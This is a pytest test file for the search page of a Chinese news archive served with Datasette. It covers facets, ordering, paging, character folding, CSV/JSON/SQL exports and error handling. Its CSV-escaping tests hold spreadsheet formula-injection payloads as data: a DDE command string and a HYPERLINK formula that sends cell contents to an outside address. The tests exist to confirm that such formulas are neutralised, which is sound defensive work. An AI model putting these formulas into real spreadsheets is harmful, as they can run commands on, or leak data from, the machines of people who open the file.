"""The search page: narrowed, ordered, counted and given away as JSON, CSV and SQL, each the same hits."""

import csv
import json
import re
import sqlite3
from collections import Counter
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from datetime import datetime
from html import unescape
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from datasette.app import Datasette
from hypothesis import given
from hypothesis import strategies as st
from support import journeys
from support.small_archive import HOSTILE, TALK, add_versions, build
from support.small_site import get, served, text
from support.tables import every_row
from support.written_archive import Written, phrases_to_ask

from archive import read_archive
from archive.files.home import Home
from archive.publish.database import reading
from archive.publish.formatting.csv_cells import BYTE_ORDER_MARK, cell, harmless
from archive.publish.search import facet_values, search_page
from archive.rules.rule_numbers import RULES
from archive.search.counting import phrases_of
from archive.search.facets import found
from archive.search.grammar.folding import fold
from archive.search.grammar.simplified import PAIRS, simplified
from archive.search.nearest import nearest
from archive.search.reach import finds
from parsers.reader.view.thresholds import MAX_VALUE_CHARACTERS

FACETS = {"source": "source", "column": "article_section", "speaker": "speaker"}


@pytest.fixture(scope="module")
def many(written: Written) -> Iterator[Datasette]:
    with served(Home(written.home)) as there:
        yield there


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Datasette]:
    with served(build(tmp_path_factory.mktemp("home"))) as there:
        yield there


def told(site: Datasette, **asked: str | int) -> dict[str, Any]:
    found: dict[str, Any] = get(site, "/search.json", params=asked).json()
    return found


def keys(data: dict[str, Any]) -> list[str]:
    return [hit["key"] for hit in data["hits"]]


@pytest.mark.parametrize("more", [{}, {"ever": "1"}, {"gone": "1"}])
def test_facets_and_months_count_all_hits(many: Datasette, more: dict[str, str]) -> None:
    data = told(many, q="治理", limit=1000, **more)
    assert data["total"] == len(data["hits"]) > 2
    for facet, name in FACETS.items():
        counted = {each["value"]: each["count"] for each in data["facets"][facet]}
        assert counted == Counter(hit[name] for hit in data["hits"] if hit[name])
    months = Counter(hit["date_published"][:7] for hit in data["hits"] if hit["date_published"])
    assert {each["month"]: each["articles"] for each in data["months"] if each["articles"]} == months
    assert all(each["covered"] >= each["articles"] for each in data["months"])


def test_a_choice_narrows_the_hits_and_leaves_its_own_facet_as_it_was(many: Datasette) -> None:
    whole = told(many, q="人民", limit=1000)
    for facet, name in FACETS.items():
        for each in whole["facets"][facet]:
            left = told(many, q="人民", limit=1000, **{facet: each["value"]})
            assert keys(left) == [hit["key"] for hit in whole["hits"] if hit[name] == each["value"]]
            assert {(value["value"], value["count"]) for value in left["facets"][facet]} == {
                (value["value"], value["count"]) for value in whole["facets"][facet]
            }
    year = told(many, q="人民", limit=1000, year="2024")
    assert keys(year) == [hit["key"] for hit in whole["hits"] if (hit["date_published"] or "").startswith("2024")]
    days = told(many, q="人民", limit=1000, since="2024-02-01", until="2024-02-29")
    assert keys(days) == [hit["key"] for hit in whole["hits"] if (hit["date_published"] or "").startswith("2024-02")]


@pytest.mark.parametrize("order", ["newest", "oldest", "relevance"])
def test_every_order_goes_through_all_hits_once(many: Datasette, order: str) -> None:
    whole = told(many, q="人民", order=order, limit=1000)
    shown: list[str] = []
    before: dict[str, str] = {}
    while True:
        data = told(many, q="人民", order=order, limit=7, **before)
        shown += keys(data)
        if not data["more"]:
            break
        before = {"before": data["next"]}
    assert shown == keys(whole)
    if order == "oldest":
        dates = [hit["date_published_utc"] or "9999" for hit in whole["hits"]]
        assert dates == sorted(dates)
    assert sorted(shown) == sorted(keys(told(many, q="人民", limit=1000)))


def test_a_page_says_how_it_read_a_query(small: Datasette) -> None:
    page = get(small, "/search", params={"q": 'speeker:"<b>" 治理|改革 (', "ui": "en"})
    assert "“speeker:” is no field" in text(page)
    assert "The sign “|” only separates words" in text(page)
    assert "“(” has no counterpart: its group ends with the query." in text(page)
    assert told(small, q="-治理")["notes"] == [{"kind": "negative", "text": "-治理"}]
    assert keys(told(small, q="-治理"))
    assert {*keys(told(small, q="-治理"))} & {*keys(told(small, q="治理"))} == set()


def test_traditional_characters_find_simplified_ones_unless_the_search_is_exact(small: Datasette) -> None:
    simplified_hits = keys(told(small, q="减轻负担"))
    assert keys(told(small, q="減輕負擔")) == simplified_hits != []
    assert keys(told(small, q="減輕負擔", exact=1)) == []
    assert keys(told(small, q="减轻负担", exact=1)) == simplified_hits
    assert "<mark>减轻负担</mark>" in get(small, "/search?q=減輕負擔").text
    page = get(small, "/search?q=減輕負擔&exact=1&ui=en")
    assert "Search both ways of writing" in text(page)
    assert 'name="exact" value="1" checked' in page.text


def test_a_page_says_that_its_index_follows_an_earlier_rule(small: Datasette, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(RULES, "words", RULES["words"] + 1)
    with served(Home(Path(small.databases["archive"].path).parent)) as there:
        assert "thinker migrate" in text(get(there, "/search?q=治理"))


CHOICES: list[dict[str, str]] = [
    {}, {"ever": "1"}, {"gone": "1"}, {"order": "oldest"}, {"order": "relevance"},
    {"column": "栏目1", "year": "2024"}, {"since": "2024-01-15", "until": "2024-06-30", "order": "oldest"},
    {"exact": "1"}, {"exact": "1", "ever": "1"}, {"exact": "1", "gone": "1"},
    {"gone": "1", "source": "newsroom"}, {"ever": "1", "column": "栏目2", "order": "oldest"},
]  # fmt: skip


@every_row("more", CHOICES)
def test_json_csv_and_sql_are_the_same_hits_in_the_same_order(many: Datasette, more: dict[str, str]) -> None:
    data = told(many, q="治理", limit=1000, **more)
    sheet = get(many, "/search.csv", params={"q": "治理", **more})
    page = get(many, "/search", params={"q": "治理", **more}).text
    (link,) = re.findall(r'href="([^"]*)"[^>]*>SQL</a>', page)
    query = {name: values[0] for name, values in parse_qs(urlsplit(link.replace("&amp;", "&")).query).items()}
    assert query == {"sql": data["sql"]["query"], **data["sql"]["parameters"]}
    rows = get(many, "/archive.json", params={**query, "_shape": "array"}).json()
    assert [row["key"] for row in rows] == keys(data)
    assert [row["key"] for row in csv.DictReader(StringIO(sheet.text.removeprefix(BYTE_ORDER_MARK)))] == keys(data)
    assert keys(data)


def test_a_sheet_is_cut_with_an_address_to_go_on(many: Datasette) -> None:
    whole = get(many, "/search.csv?q=人民")
    cut = get(many, "/search.csv?q=人民&limit=5")
    assert whole.headers["content-disposition"] == 'attachment; filename="search.csv"'
    assert "link" not in whole.headers
    following = re.fullmatch(r'<(.*)>; rel="next"', cut.headers["link"])[1]
    assert whole.text.splitlines()[6] == get(many, following).text.splitlines()[1]


@every_row(
    ("value", "written_as"),
    [
        ("=1+1", "'=1+1"),
        ("+86 21", "'+86 21"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"),
        ("＝1", "'＝1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("改革=发展", "改革=发展"),
        (3, "3"),
        (None, ""),
    ],
)
def test_no_cell_of_a_sheet_is_a_formula(value: object, written_as: str) -> None:
    assert cell(value) == written_as


@pytest.mark.parametrize(
    "path",
    ["/search.csv?q=公式", "/data/articles-2024-04.csv", "/archive/articles.csv?key=newsroom-6&_col=headline",
     "/archive/articles.csv?key=newsroom-6&_header=off&_dl=1", "/archive/newest.csv?_trace=1",
     "/archive/latest_articles.csv", "/archive.csv?sql=select+headline,speaker,-1,1.5e-7,body_text+from+articles"],
)  # fmt: skip
def test_no_sheet_of_the_site_holds_a_formula(tmp_path: Path, path: str) -> None:
    home = build(tmp_path)
    formula = '=HYPERLINK("http://news.example/?"&A1,"公式, 算式")'
    add_versions(home, replace(TALK, identity="6", headline=formula, speaker="＝1+1", paragraphs=("\n@SUM(A1)",)))
    with served(home) as there:
        sheet = get(there, path).text
    cells = [value for row in csv.reader(StringIO(sheet.removeprefix(BYTE_ORDER_MARK))) for value in row]
    assert f"'{formula}" in cells
    numbers = [value for value in cells if re.fullmatch(r"-?[\d.]+(e-\d+)?", value)]
    assert [value for value in cells if value not in numbers and cell(value) != value] == []
    assert ("-1" in cells) is ("sql" in path)  # numbers stay


@given(st.lists(st.lists(st.text("=+-@\"',\r\n\t ＝甲a1", max_size=12), min_size=1, max_size=4), max_size=4))
def test_rows_that_were_written_elsewhere_are_made_harmless_cell_by_cell(rows: list[list[str]]) -> None:
    into = StringIO()
    csv.writer(into).writerows(rows)
    found = list(csv.reader(StringIO(harmless(into.getvalue()), newline="")))
    number = re.compile(r"-?\d+")
    assert found == [[value if number.fullmatch(value) else cell(value) for value in row] for row in rows]


def test_a_chosen_value_is_a_chip_that_links_to_the_search_without_it(small: Datasette) -> None:
    page = get(small, "/search?q=治理&column=思想者&ui=en").text
    chip = re.search(r'<a class="chip"[^>]*href="([^"]*)"', page)
    assert chip
    assert chip[1] == "?q=%E6%B2%BB%E7%90%86"
    assert '<input type="hidden" name="column" value="思想者">' in page  # the form keeps it
    assert "aria-current" in page.partition('id="facet-column"')[2].partition("</ul>")[0]
    assert get(small, "/search", params={"q": "改革", "speaker": HOSTILE}).text.count("<script>") == 0


def test_a_search_without_hits_suggests_other_searches(small: Datasette) -> None:
    assert told(small, q="城市火箭")["near"] == ["城市"]
    assert told(small, q="governance 火箭 治理")["near"] == ["governance", "治理"]
    assert told(small, q="governence")["near"] == ["govern*"]
    assert told(small, q="title:governance 火箭")["near"] == ["governance"]  # it stands in the body
    data = told(small, q="治理", year="1999")
    assert (data["hits"], data["unnarrowed"], data["near"]) == ([], 2, [])
    assert "取消筛选可找到 2 篇" in text(get(small, "/search?q=治理&year=1999"))
    assert [each for each in data["facets"]["year"] if each["selected"]] == [
        {"value": "1999", "count": 0, "selected": True}
    ]


@every_row(
    ("q", "known", "named"),
    [
        ("新质生产力发展", {"新质", "生产力", "生产", "发展"}, ["生产力", "新质", "发展"]),
        ("甲 乙 丙", {"乙 丙", "甲"}, ["乙 丙", "甲"]),
        ('"甲 乙"', {"乙"}, ["乙"]),
        ("", {"人"}, []),
        ("人", {"人民"}, []),
        ("甲 -乙 (丙 OR 丁)", {"丙 OR 丁"}, ["丙 OR 丁"]),
        ("甲 -乙 丙", {"-乙", "甲 -乙", "丙"}, ["甲 -乙", "丙"]),
        ("title:govern", {"govern", "title:gov*"}, ["govern", "title:gov*"]),
        ("甲乙 丙 OR 丁 戊", {"甲乙", "丁"}, ["甲乙", "丁"]),
        ("5G网络", {"网络", "5G"}, ["5G", "网络"]),
    ],
)
def test_nearest_names_the_longest_known_parts_of_a_query(q: str, known: set[str], named: list[str]) -> None:
    assert nearest(q, known.__contains__) == named


@every_row(
    "q", [" ".join(map(chr, range(0x4E00, 0x4E00 + 250))), "a" * 500, " OR ".join(["养老服务"] * 70), "养 老 " * 9]
)
def test_advice_on_a_long_query_tries_short_ones(q: str) -> None:
    """Of 250 terms 80 queries of 249 terms were tried, which took a second."""
    tried: list[str] = []
    assert nearest(q, lambda shorter: bool(tried.append(shorter))) == []
    assert 0 < sum(map(len, tried)) <= 4 * len(q)


def test_the_table_simplifies_traditional_characters_and_has_no_chains() -> None:
    assert len(PAIRS) == 3001
    assert simplified("長三角經濟的發展，後面") == "长三角经济的发展，后面"
    assert simplified("长三角 GDP") == "长三角 GDP"
    assert [pair for pair in PAIRS.items() if pair[0] == pair[1] or fold(pair[0]) != pair[1]] == []
    assert [each for each in PAIRS.values() if each in PAIRS] == []


def test_withdrawn_texts_are_in_no_answer(small: Datasette) -> None:
    for more in ({}, {"ever": "1"}, {"gone": "1"}):
        data = told(small, q="不应再被看见的文字", **more)
        assert (data["hits"], data["total"]) == ([], 0)


def test_the_sql_is_shown_where_it_may_not_be_run(tmp_path_factory: pytest.TempPathFactory, small: Datasette) -> None:
    allowed = small._settings["default_allow_sql"]
    small._settings["default_allow_sql"] = False
    try:
        page = get(small, "/search?q=治理").text
    finally:
        small._settings["default_allow_sql"] = allowed
    assert "/archive?sql=" not in page
    assert "article_words match terms(:q)" in page


@every_row("ending", ["", ".json", ".csv", ".atom", ".feed.json"])
@every_row(
    ("query", "said"),
    [("order=x", "order=x: not one of newest, oldest, relevance"), ("before=x", "before=x: not a place"),
     ("before=,", "before=,: not a place"), ("before=2024&order=oldest", "before=2024: not a place"),
     ("since=2024-02-31", "since=2024-02-31: not a day like 2024-04-13"),
     ("since=13.4.2024", "since=13.4.2024: not a day"), ("until=%00", "until=\x00: not a day"),
     ("until=٢٠٢٤-٠٤-١٣", "not a day"), ("limit=x", "limit=x: not a whole number of 1 or more"), ("limit=0", "limit=0"),
     ("year=%27", "year=': not a year like 2024"), ("ever=true", "ever=true: use 1"),
     ("q=" + "治" * 501, "q: 501 characters, at most 500"), ("limit=" + "9" * 600, "…")],
)  # fmt: skip
def test_an_invalid_search_option_returns_400_with_a_reason(
    small: Datasette, query: str, said: str, ending: str
) -> None:
    reply = get(small, f"/search{ending}?{'' if query.startswith('q=') else 'q=治理&'}{query}")
    assert reply.status_code == 400
    assert said in (reply.json()["error"] if ending else unescape(text(reply)))
    assert "\n" not in (reply.json()["error"] if ending else "")


@pytest.mark.parametrize("query", ["before=nan,1&order=relevance", "before=1e999,1&order=relevance"])
def test_no_place_is_beyond_all_numbers(small: Datasette, query: str) -> None:
    assert get(small, f"/search?q=治理&{query}").status_code == 400


@every_row(
    "query", ["order=", "before=", "since=&until=", "limit=&year=", "ever=0&gone=", "ever=1&order=relevance",
              "column=" + "a" * 600, "limit=99999"],
)  # fmt: skip
def test_a_form_that_is_half_filled_in_asks_for_nothing_strange(small: Datasette, query: str) -> None:
    assert get(small, f"/search?q=治理&{query}").status_code == 200


def test_a_month_that_was_not_asked_for_is_no_zero(many: Datasette) -> None:
    whole = {each["month"] for each in told(many, q="人民")["months"]}
    assert {"2024-01", "2024-03", "2023-12"} & whole
    for asked, months in [
        ({"year": "2024"}, {month for month in whole if month[:4] == "2024"}),
        ({"since": "2024-02-10", "until": "2024-03-20"}, {"2024-02", "2024-03"} & whole),
    ]:
        assert {each["month"] for each in told(many, q="人民", **asked)["months"]} == months


def test_hits_without_a_date_are_counted_beside_the_months(small: Datasette) -> None:
    data = told(small, q="改革")
    assert (data["total"], data["undated"], sum(each["articles"] for each in data["months"])) == (2, 1, 1)
    assert "没有日期、未计入图中：1 篇" in text(get(small, "/search?q=改革"))


def test_search_data_and_feeds_return_503_after_a_timeout(small: Datasette, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "PAGE_TIME_LIMIT_MS", 0)
    for ending in (".json", ".csv", ".atom", ".feed.json"):
        assert get(small, f"/search{ending}?q=小事办好").status_code == 503


def test_a_feed_of_a_search_has_the_newest_first_and_goes_on(many: Datasette) -> None:
    newest = [f"http://localhost/a/{key}" for key in keys(told(many, q="人民", limit=1000))]
    for order in ("", "&order=oldest", "&order=relevance"):
        path, shown, names = f"/search.feed.json?q=人民&limit=7{order}", [], set()
        while path:
            feed = get(many, path).json()
            shown += [item["url"] for item in feed["items"]]
            path = feed.get("next_url", "").removeprefix("http://localhost")
        assert shown == newest
    names = {get(many, f"/search.atom?q=人民{more}").text.partition("<id>")[2][:45] for more in ("", "&limit=9")}
    assert len(names) == 1


def test_the_longest_names_that_a_source_can_give_are_counted(tmp_path: Path) -> None:
    home = build(tmp_path)
    longest = "\U00020bb7" * MAX_VALUE_CHARACTERS
    with closing(sqlite3.connect(home.database)) as conn, conn:
        names = [row[1] for row in conn.execute("pragma table_info(articles)")]
        made = {"id": "n", "key": "'long-' || n", "search_id": "n", "article_section": "?"}
        conn.execute(
            f"""with recursive numbers(n) as (select 1001 union all select n + 1 from numbers limit 1400)
                insert into articles ({", ".join(names)}) select {", ".join(made.get(name, name) for name in names)}
                  from (select * from articles where key = 'newsroom-1'), numbers""",
            (longest,),
        )
        conn.execute("insert into article_words (rowid, body_text) select id, '长名 名' from articles where id > 1000")
    with served(home) as site:
        assert told(site, q="长名")["facets"]["column"] == [{"value": longest, "count": 1400, "selected": False}]


def test_a_facet_states_the_number_of_its_unlisted_values(many: Datasette, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(facet_values, "MAX_FACET_VALUES", 3)
    monkeypatch.setattr(search_page, "FACET_VALUES_SHOWN", 2)
    data = told(many, q='"人民"')
    counted = len({hit["speaker"] for hit in told(many, q='"人民"', limit=1000)["hits"] if hit["speaker"]})
    assert (len(data["facets"]["speaker"]), data["facet_values"]["speaker"]) == (3, counted)
    assert counted > 3
    page = text(get(many, "/search", params={"q": '"人民"'}))
    assert "另有 1 项" in page
    assert f"另有 {counted - 3} 项未列出" in page


@every_row(("q", "phrases"), [
    ("治理", ["治理"]), ("减负，GDP*", ["减负", "GDP*"]),
    ('"small  steps" "改革', ["small steps", "改革"]),
    ("治理 ＡＩ 治理", ["治理", "AI"]), ("治理 " + "改" * 101, ["治理"]), ('"，" ……', []),
])  # fmt: skip
def test_a_search_is_split_into_its_distinct_phrases(q: str, phrases: list[str]) -> None:
    assert phrases_of(q) == phrases


def test_hits_lead_to_the_history_of_every_phrase_that_was_asked_for(small: Datasette) -> None:
    page = get(small, "/search", params={"q": 'steps "改革'}).text.partition('class="list hits"')[0]
    assert re.findall(r'href="(/phrase\?[^"]*)"', page) == ["/phrase?q=steps&amp;q=%E6%94%B9%E9%9D%A9"]


def test_the_day_of_a_hit_is_a_link_and_years_stand_in_their_order(small: Datasette, many: Datasette) -> None:
    assert '<a href="/day/2024-04-14"><time datetime="2024-04-14T05:01:00+08:00">' in get(small, "/search?q=小事").text
    years = get(many, "/search?q=人民&year=2023").text.partition('id="facet-year"')[2].partition("</ul>")[0]
    assert re.findall(r">(\d{4})</a>", years) == ["2024", "2023"]


def test_the_phrase_page_shows_the_coverage_of_each_month_and_links_each_year_to_its_articles(
    many: Datasette,
) -> None:
    page = get(many, "/phrase?q=治理&q=改革").text
    phrases = get(many, "/phrase.json?q=治理&q=改革").json()["phrases"]
    months = [
        (month["month"], month["covered"], month["articles"], other["articles"])
        for month, other in zip(*(each["months"] for each in phrases), strict=True)
    ]
    row = '<th scope="row">([-\\d]+)</th><td>(\\d+)</td><td>(\\d+)</td><td>(\\d+)</td>'
    assert [(month, *map(int, counts)) for month, *counts in re.findall(row, page)] == [
        (month, covered, *counts) for month, covered, *counts in months if covered
    ]
    years = re.findall(r'<a href="/search([^"]*year=\d+)" rel="nofollow">(\d+)</a>', page)
    totals = [get(many, f"/search.json{path.replace('&amp;', '&')}").json()["total"] for path, _ in years]
    edits = sum(month["came_by_edit"] for each in phrases for month in each["months"])
    assert 0 < sum(int(count) for _, count in years) <= sum(totals)  # also those published then that got it later
    assert sum(totals) <= sum(int(count) for _, count in years) + edits


def test_months_are_links_where_a_page_has_room_for_them(many: Datasette, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(search_page, "MAX_CHART_LINK_CHARACTERS", 900)
    charted = [
        get(many, "/search", params={"q": " ".join(["人民"] * times)})
        .text.partition("<figure")[2]
        .partition("</figure>")[0]
        for times in (1, 20)
    ]
    assert ["since=2024-01-01" in each for each in charted] == [True, False]
    linked, plain = (re.findall("<td>(.*?)</td>", each) for each in charted)
    assert linked == plain


def test_a_source_is_called_by_its_publisher(small: Datasette) -> None:
    page = get(small, "/search?q=治理&source=newsroom").text
    facet = page.partition('id="facet-source"')[2].partition("</ul>")[0]
    assert re.sub("<[^>]*>", "", facet).split()[-2] == "新闻室"
    assert "来源 新闻室" in text(get(small, "/search?q=治理&source=newsroom"))
    assert told(small, q="治理")["facets"]["source"][0]["value"] == "newsroom"  # by which it is chosen


def test_a_search_for_dropped_words_offers_the_current_texts(small: Datasette) -> None:
    page = get(small, "/search?q=办实&gone=1")  # which the headline of newsroom-1 says now
    assert ("没有文章含有这些词" in page.text, "没有文章删改过" in page.text) == (False, True)
    assert 'href="?q=%E5%8A%9E%E5%AE%9E">改查文章现在的文字</a>' in page.text
    assert told(small, q="办实")["total"] == 1


def test_the_search_page_has_the_search_box_of_every_header(small: Datasette) -> None:
    header = get(small, "/search?q=治理").text.partition("<header")[2].partition("</header>")[0]
    assert '<input type="search" name="q"' in header


SWITCHES = [(), ("ever",), ("gone",), ("ever", "gone"), ("ever", "gone", "exact")]


@every_row("switches", SWITCHES)
def test_the_command_the_page_and_its_feed_find_the_same_by_every_switch(
    written: Written, many: Datasette, switches: tuple[str, ...]
) -> None:
    code, out, _ = journeys.asked(
        written.home, "search", "治理", "--json", "--limit", "0", *(f"--{each}" for each in switches)
    )
    chosen = dict.fromkeys(switches, "1")
    whole = told(many, q="治理", limit=1000, **chosen)
    assert (code, [hit["key"] for hit in json.loads(out)]) == (0, keys(whole))
    feed = get(many, "/search.feed.json", params={"q": "治理", "limit": 1000, **chosen}).json()
    assert [item["url"].rpartition("/")[2] for item in feed["items"]] == keys(whole) != []
    assert keys(told(many, q="治理", limit=1000, gone="1")) == keys(whole) or "gone" not in switches


@pytest.mark.parametrize("switches", [{}, {"ever": True}, {"gone": True}, {"ever": True, "gone": True}])
def test_finds_agrees_with_found_for_every_switch(written: Written, switches: dict[str, bool]) -> None:
    with closing(read_archive(written.home)) as archive:
        asked = list(phrases_to_ask(written.versions))[:120]
        told_of = {phrase: finds(archive.conn, phrase, **switches) for phrase in asked}
        assert told_of == {phrase: bool(found(archive.conn, phrase, **switches)) for phrase in asked}
    assert set(told_of.values()) == {True, False}


@pytest.fixture(scope="module")
def crowd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Datasette]:
    """An article a month of 120 speakers in 45 columns, each with the same words."""
    home = build(tmp_path_factory.mktemp("crowd"))
    for n in range(120):
        published = datetime.fromisoformat(f"{2014 + n // 12}-{n % 12 + 1:02}-14T05:01:00+08:00")
        add_versions(home, replace(TALK, identity=f"c{n}", speaker=f"第{n}位主讲", article_section=f"栏目{n % 45}",
                                   date_published=published))  # fmt: skip
    with served(home) as there:
        yield there


def test_a_value_of_a_facet_that_has_room_leads_on(crowd: Datasette) -> None:
    """JSON names 50 values. The page once said "35 more" of the columns, without a link."""
    facet = get(crowd, "/search?q=治理").text.partition('id="facet-column"')[2].partition("</section>")[0]
    linked = {parse_qs(urlsplit(unescape(path)).query)["column"][0] for path in re.findall('href="([^"]*)"', facet)}
    assert len(linked) > 2 * facet_values.FACET_VALUES_SHOWN
    assert f"另有 {len(linked) - facet_values.FACET_VALUES_SHOWN} 项</summary>" in facet
    assert len(linked) == 46


LONG = "q=" + "治理，" * 166
CHOSEN = "&".join(f"column={name}" for name in (*(f"栏目{n}" for n in range(19)), "长" * 100))


@pytest.mark.parametrize("asked", [LONG, f"{LONG}&ever=1&ui=en", f"{LONG}&{CHOSEN}"])
def test_no_page_of_hits_is_larger_than_100_kb(crowd: Datasette, asked: str) -> None:
    """Each link has the query in it, and thrice as long."""
    page = get(crowd, f"/search?{asked}")
    assert page.text.count('class="headline"') >= 10
    assert len(page.content) <= 100_000


def test_no_page_of_hits_leads_to_one_that_is_larger_than_100_kb(crowd: Datasette) -> None:
    """More hits on the same page were offered up to 1,000 of them."""
    shown, path = [], "/search?q=治理"
    while path:
        page = get(crowd, path)
        assert len(page.content) <= 100_000
        shown.append(page.text.count('class="headline"'))
        path = next(iter(re.findall('href="([^"]*)" rel="nofollow">显示更多', page.text)), "")
        path = path and "/search" + unescape(path).removeprefix("/search")
    assert shown == [20, 40]
